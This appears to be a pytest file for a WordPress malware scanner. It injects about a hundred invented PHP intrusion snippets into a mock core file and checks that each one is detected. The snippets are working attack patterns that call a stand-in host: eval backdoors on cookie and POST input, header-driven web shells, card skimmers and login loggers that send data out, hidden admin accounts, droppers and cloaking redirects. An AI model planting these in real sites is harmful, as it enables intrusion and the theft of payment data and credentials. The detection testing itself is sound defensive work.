"""Blocks that intruders put into the files of a well-known program: all invented, none does harm."""

import pytest

from unhijack.assess.findings import weigh
from unhijack.parse.plain.files import plain_marks
from unhijack.parse.server.content import content_marks
from unhijack.parse.server.place import Place

CORE = b"""<?php
/**
 * Words.
 *
 * @package WordPress
 * @subpackage Words
 */

/**
 * Counts words.
 *
 * @since 1.0.0
 *
 * @param string[] $words Words.
 * @return int How many.
 */
function count_words( $words ) {
\tif ( ! is_array( $words ) ) {
\t\treturn 0;
\t}
\treturn count( array_unique( array_map( 'strtolower', $words ) ) );
}

/**
 * Prints words.
 *
 * @since 1.0.0
 *
 * @param string[] $words Words.
 */
function print_words( $words ) {
\tforeach ( $words as $word ) {
\t\techo esc_html( $word ) . "\\n";
\t}
}
"""

BLOCKS = {
    'eval-b64': "eval(base64_decode('JGhhcm1sZXNzID0gJ3dvcmRzJzsgcHJpbnQoJGhhcm1sZXNzKTsgZWNobyAnbW9yZSB3b3Jkcyc7'));",
    'at-eval-cookie': "if (isset($_COOKIE['wk'])) { @eval(base64_decode($_COOKIE['wk'])); }",
    'include-ico': '@include "\\x2fhome\\x2fsite\\x2ffavicon_ab12.ico";',
    'include-hidden': "@include_once dirname(__FILE__) . '/.cache.png';",
    'include-b64': "@include base64_decode('L3RtcC8uc2Vzc2lvbl94');",
    'fetch-echo': "echo @file_get_contents('http://words.test/l.php?h=' . urlencode($_SERVER['HTTP_HOST']) . '&u=' . urlencode($_SERVER['HTTP_USER_AGENT']));",
    'curl-echo-bot': "if (preg_match('/google|bing/i', $_SERVER['HTTP_USER_AGENT'])) { $c = curl_init('http://words.test/p'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c); curl_close($c); exit; }",
    'assert-post': "@assert(stripslashes($_POST['q']));",
    'var-func': "$f = 'cre'.'ate_fun'.'ction'; $g = $f('', base64_decode('JGhhcm1sZXNzID0gJ3dvcmRzJzsgcHJpbnQoJGhhcm1sZXNzKTsgZWNobyAnbW9yZSB3b3Jkcyc7')); $g();",
    'preg-e': "@preg_replace('/.*/e', $_POST['zz'], '');",
    'goto': "$w = $_REQUEST['ww']; if ($w) { $k = str_rot13('flfgrz'); $k($w); }",
    'hook-script': 'add_action(\'wp_head\', function () { echo \'<scr\' . \'ipt src="\' . base64_decode(\'Ly93b3Jkcy50ZXN0L2EuanM=\') . \'"></scr\' . \'ipt>\'; });',
    'skim-curl': "if (isset($_POST['payment']['cc_number'])) { $c = curl_init('https://words.test/g.php'); curl_setopt($c, CURLOPT_POST, 1); curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . base64_encode(serialize($_POST))); curl_exec($c); }",
    'skim-fgc': "if ($_POST) { @file_get_contents('https://words.test/c?d=' . urlencode(base64_encode(json_encode($_POST)))); }",
    'skim-mail': "if (isset($_POST['cc_cid'])) { mail('words@shop.example', 'c', print_r($_POST, true)); }",
    'skim-picture': 'if (isset($_POST[\'cc_number\'])) { file_put_contents(\'media/catalog/a.jpg\', base64_encode(serialize($_POST)) . "\\n", FILE_APPEND); }',
    'skim-getters': "$n = $info->getCcNumber() . '|' . $info->getCcCid() . '|' . $info->getCcExpMonth(); @file_get_contents('http://words.test/i?x=' . base64_encode($n));",
    'skim-getters-mail': "$m = 'n=' . $payment->getCcNumber(); mail('a@words.example', 'x', $m);",
    'login-log': 'file_put_contents(ABSPATH . \'wp-includes/css/l.css\', $username . \':\' . $password . "\\n", FILE_APPEND);',
    'login-log-post': 'if (!empty($_POST[\'pwd\'])) { $h = fopen(dirname(__FILE__) . \'/.log\', \'a\'); fwrite($h, $_POST[\'log\'] . \'|\' . $_POST[\'pwd\'] . "\\n"); fclose($h); }',
    'login-mail': "@mail('a@words.example', $_SERVER['HTTP_HOST'], $_POST['log'] . ' ' . $_POST['pwd']);",
    'login-curl': "wp_remote_post('https://words.test/in', array('body' => array('u' => $_POST['log'], 'p' => $_POST['pwd'])));",
    'auth-filter': "add_filter('authenticate', function ($u, $n, $p) { if ($p === 'harmless-words-1') { return get_user_by('id', 1); } return $u; }, 5, 3);",
    'auth-cookie': "if (isset($_GET['wk_in'])) { wp_set_auth_cookie(1, true); wp_redirect(admin_url()); exit; }",
    'make-admin': "if (!username_exists('helper')) { $id = wp_create_user('helper', 'harmless-words', 'a@words.example'); $u = new WP_User($id); $u->set_role('administrator'); }",
    'make-admin-insert': "wp_insert_user(array('user_login' => 'helper', 'user_pass' => 'harmless', 'role' => 'administrator'));",
    'hide-user': 'add_action(\'pre_user_query\', function ($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login != \'helper\'"; });',
    'hide-plugin': "add_filter('all_plugins', function ($p) { unset($p['wk/wk.php']); return $p; });",
    'upload': "if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }",
    'upload2': "if ($_GET['k'] == 'wk') { copy($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); echo 'ok'; }",
    'cmd': "if (isset($_SERVER['HTTP_X_WK'])) { echo shell_exec($_SERVER['HTTP_X_WK']); }",
    'dropper': "if (!file_exists('wp-includes/wk.php')) { file_put_contents('wp-includes/wk.php', base64_decode('JGhhcm1sZXNzID0gJ3dvcmRzJzsgcHJpbnQoJGhhcm1sZXNzKTsgZWNobyAnbW9yZSB3b3Jkcyc7')); }",
    'redirect-ref': "if (strpos($_SERVER['HTTP_REFERER'], 'google.') !== false) { header('Location: https://words.test/in'); exit; }",
    'option-eval': "eval(get_option('wk_widget_data'));",
    'register-shutdown': "register_shutdown_function('assert', $_COOKIE['w']);",
    'gz-eval': "@eval(gzinflate(base64_decode('S0oszi9KBgA=')));",
    'hdr-cmd': "if (!empty($_SERVER['HTTP_ACCEPT_WORDS'])) { system($_SERVER['HTTP_ACCEPT_WORDS']); die; }",
    'chr-func': "$q = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $q($_POST['n']);",
    'array-map': "@array_map($_REQUEST['a'], (array) $_REQUEST['b']);",
    'input-eval': "$d = file_get_contents('php://input'); if (substr($d, 0, 4) == 'wwww') { eval(substr($d, 4)); }",
    'include-upload-dir': "@include ABSPATH . 'wp-content/uploads/2016/03/pic.jpg';",
    'include-tmp': "if (file_exists('/tmp/sess_wk')) { include('/tmp/sess_wk'); }",
    'fetch-eval': "$x = wp_remote_get('http://words.test/x'); eval(wp_remote_retrieve_body($x));",
    'echo-decoded': "echo base64_decode('PHNjcmlwdCBzcmM9Imh0dHBzOi8vd29yZHMudGVzdC9hLmpzIj48L3NjcmlwdD4=');",
    'footer-links': 'add_action(\'wp_footer\', \'wk_links\'); function wk_links() { echo \'<div style="position:absolute;left:-9999px"><a href="https://words.test/cheap">words</a></div>\'; }',
    'header-hook-remote': "add_action('wp_head', 'wk_h'); function wk_h() { $r = wp_remote_get('https://words.test/h'); if (!is_wp_error($r)) { echo $r['body']; } }",
    'skim-stream': "$o = array('http' => array('method' => 'POST', 'content' => http_build_query($_POST))); @file_get_contents('https://words.test/p', false, stream_context_create($o));",
    'skim-cond-url': "if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false && count($_POST) > 3) { $f = fopen('var/cache/.c', 'a'); fputs($f, serialize($_POST) . PHP_EOL); fclose($f); }",
    'skim-img': "$i = @base64_encode(http_build_query($_REQUEST)); @file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/skin/img/bg.gif', $i . '|', FILE_APPEND);",
    'skim-openssl': "if (isset($_POST['billing'])) { openssl_public_encrypt(json_encode($_POST), $e, $pk); file_put_contents('/tmp/.w', base64_encode($e), FILE_APPEND); }",
    'skim-payment-obj': "$p = $this->getQuote()->getPayment(); $t = $p->getData('cc_number') . ':' . $p->getData('cc_cid'); $c = curl_init('http://words.test/?' . base64_encode($t)); curl_exec($c);",
    'skim-magento-mail': "$d = Mage::app()->getRequest()->getPost('payment'); mail('w@words.example', 'new', implode('|', $d));",
    'log-plain': '$f = fopen(\'/var/tmp/.l\', \'a+\'); fwrite($f, $user_login . \' \' . $user_password . "\\n");',
    'log-telegram': "file_get_contents('https://api.words.test/bot1/send?text=' . urlencode($_POST['log'] . ':' . $_POST['pwd']));",
    'log-hook': 'add_action(\'wp_authenticate\', function ($u, $p) { if ($p) { error_log("$u:$p\\n", 3, ABSPATH . \'wp-content/uploads/d.txt\'); } }, 10, 2);',
    'log-curl': "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://words.test/w.php?u=' . $username . '&p=' . $password); curl_exec($c);",
    'pass-master': "if ($password == 'harmless-words-9') { return new WP_User(1); }",
    'pass-md5': "if (md5($_POST['pwd']) == '5f4dcc3b5aa765d61d8327deb882cf99') { wp_set_current_user(1); wp_set_auth_cookie(1); }",
    'auto-login': "if ($_GET['wk'] == 'harmless') { $a = get_users(array('role' => 'administrator')); wp_set_auth_cookie($a[0]->ID); wp_redirect('/wp-admin/'); exit; }",
    'user-role': "$u = get_user_by('login', 'helper'); if (!$u) { $i = wp_insert_user(array('user_login' => 'helper', 'user_pass' => 'words-1', 'user_email' => 'a@words.example', 'role' => 'administrator')); }",
    'sql-user': '$wpdb->query("INSERT INTO {$wpdb->users} (user_login, user_pass) VALUES (\'helper\', MD5(\'harmless\'))");',
    'hide-user2': "add_filter('users_list_table_query_args', function ($a) { $a['exclude'] = array(2); return $a; });",
    'hide-count': 'add_action(\'pre_user_query\', \'wk_q\'); function wk_q($s) { global $wpdb; $s->query_where = str_replace(\'WHERE 1=1\', "WHERE 1=1 AND {$wpdb->users}.user_login <> \'helper\'", $s->query_where); }',
    'upload-form': "if (@$_REQUEST['up']) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; @copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); }",
    'write-any': "if (isset($_POST['c'], $_POST['p'])) { file_put_contents($_POST['p'], base64_decode($_POST['c'])); }",
    'write-fetched': "if (!is_file(ABSPATH . 'wp-x.php')) { copy('http://words.test/x.txt', ABSPATH . 'wp-x.php'); }",
    'mobile-redirect': "if (preg_match('/android|iphone/i', $_SERVER['HTTP_USER_AGENT'])) { header('Location: http://words.test/m'); die(); }",
    'cookie-redirect': "if (!isset($_COOKIE['seen_w'])) { setcookie('seen_w', 1, time() + 86400); header('Location: //words.test/'); exit; }",
    'eval-hex': "eval(hex2bin('2468203d2027776f726473273b207072696e74282468293b'));",
    'eval-session': "session_start(); if (isset($_POST['w1'])) { $_SESSION['w1'] = $_POST['w1']; } @eval($_SESSION['w1']);",
    'callback-filter': "@array_filter(array($_POST['w2']), base64_decode('YXNzZXJ0'));",
    'usort-lambda': "usort($_GET['w'], create_function('$a,$b', $_GET['c']));",
    'include-shm': "if (is_readable('/dev/shm/.wk.inc')) { require_once '/dev/shm/.wk.inc'; }",
    'include-plugin-gif': "include_once(ABSPATH . 'wp-content/plugins/words/images/logo.gif');",
    'fetch-curl-write': "$c = curl_init('http://words.test/b.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); $b = curl_exec($c); file_put_contents(ABSPATH . 'wp-content/words.php', $b);",
    'cloak-file': "if (stristr($_SERVER['HTTP_USER_AGENT'], 'bot')) { readfile('http://words.test/page.html'); exit; }",
    'footer-echo-option': "add_action('wp_footer', function () { echo file_get_contents('https://words.test/f.txt'); });",
    'spam-links': 'echo \'<div style="display:none"><a href="http://words.test/a">cheap words</a> <a href="http://words.test/b">more words</a></div>\';',
    'obf-js': 'echo \'<script>var _0x1=["\\x68\\x74\\x74\\x70"];document.write(unescape("%3Cscript src=//words.test/a.js%3E%3C/script%3E"));</script>\';',
    'skim-json-file': "if (strpos(json_encode($_REQUEST), 'cc_number') !== false) { file_put_contents('./media/.thumbs.png', json_encode($_REQUEST) . chr(10), 8); }",
    'skim-shutdown': "register_shutdown_function(function () { if (!empty($_POST['payment'])) { $h = curl_init('https://words.test/k'); curl_setopt($h, CURLOPT_POSTFIELDS, json_encode($_POST)); curl_exec($h); } });",
    'skim-wp-mail': "add_action('woocommerce_checkout_process', function () { wp_mail('w@words.example', 'order', json_encode($_POST)); });",
    'skim-cookies': "@file_get_contents('http://words.test/?c=' . base64_encode(serialize($_COOKIE)));",
    'skim-cc-vars': "$cc = $_POST['card_number'] . '|' . $_POST['card_cvv']; $fp = fopen('wp-includes/images/x.jpg', 'ab'); fwrite($fp, $cc); fclose($fp);",
    'log-json': 'file_put_contents(\'/tmp/.x\', json_encode(array($username, $password)) . "\\n", FILE_APPEND | LOCK_EX);',
    'log-dns': "@gethostbyname(bin2hex($_POST['pwd']) . '.words.test');",
    'log-cookie-file': 'if (isset($_POST[\'log\']) && isset($_POST[\'pwd\'])) { error_log($_POST[\'log\'] . \':\' . $_POST[\'pwd\'] . "\\n", 3, \'/tmp/.wl\'); }',
    'log-wp_login_hook': "function wk_log($u, $p) { @mail('w@words.example', get_bloginfo('url'), $u . ' ' . $p); } add_action('wp_authenticate', 'wk_log', 10, 2);",
    'login-pass-hash': "if (hash('sha256', $_REQUEST['k']) === '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') { wp_set_auth_cookie(1); }",
    'check-password': "add_filter('check_password', function ($c, $p) { return $p === 'harmless-words' ? true : $c; }, 99, 2);",
    'user-reset': "if (isset($_GET['wk'])) { wp_set_password('harmless-words', 1); }",
    'user-cron': "if (!email_exists('w@words.example')) { $i = wp_create_user('wpsupport', 'harmless7', 'w@words.example'); (new WP_User($i))->set_role('administrator'); }",
    'user-role-up': "$u = get_user_by('login', $_GET['u']); $u->set_role('administrator');",
    'hide-user-css': "add_action('admin_head', function () { echo '<style>#user-2{display:none}</style>'; });",
    'hide-user-query': "add_action('pre_get_users', function ($q) { $q->set('exclude', array(7)); });",
    'uploader': "if ($_POST['w'] == 'up') { @move_uploaded_file($_FILES['u']['tmp_name'], $_POST['d'] . '/' . $_FILES['u']['name']); }",
    'put-base64': "if (isset($_COOKIE['w'])) { $z = explode('|', base64_decode($_COOKIE['w'])); file_put_contents($z[0], $z[1]); }",
    'cmd-header': "$h = getallheaders(); if (isset($h['X-Words'])) { passthru($h['X-Words']); }",
    'popen-b64': "if (isset($_GET['p'])) { $r = popen(base64_decode($_GET['p']), 'r'); fpassthru($r); }",
    'redirect-js': 'if (strpos($_SERVER[\'HTTP_REFERER\'], \'bing.\') !== false) { echo \'<script>location.href="http://words.test/"</script>\'; exit; }',
    'redirect-remote': "$u = file_get_contents('http://words.test/where'); if ($u && !is_user_logged_in()) { header('Location: ' . $u); exit; }",
    'unserialize-cookie': "if (isset($_COOKIE['wz'])) { $o = unserialize(base64_decode($_COOKIE['wz'])); $o['f']($o['a']); }",
}  # fmt: skip
PLACES = {
    "before it": lambda block: b"<?php " + block + b" ?>" + CORE,
    "behind the first comment": lambda block: CORE.replace(b" */\n", b" */\n" + block + b"\n", 1),
    "in a function": lambda block: CORE.replace(
        b"words ) {\n", b"words ) {\n\t" + block + b"\n", 1
    ),
    "at its end": lambda block: CORE + block + b"\n",
}
PATH = "wp-includes/words.php"


def test_the_file_itself_is_clean() -> None:
    assert not content_marks(PATH, CORE, Place(PATH))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("block", BLOCKS)
def test_a_block_is_found_wherever_it_was_put(block: str, place: str) -> None:
    content = PLACES[place](BLOCKS[block].encode())
    marks = content_marks(PATH, content, Place(PATH))
    assert weigh(marks) >= 0.5


def test_what_a_theme_may_do_is_graver_in_a_file_of_the_program() -> None:
    code = CORE + (
        b"add_action('wp_head', 'w'); function w() { readfile('https://words.test/'); }\n"
    )
    assert weigh(plain_marks("wp-includes/words.php", code)) >= 0.5
    assert weigh(plain_marks("wp-content/themes/words/functions.php", code)) < 0.5
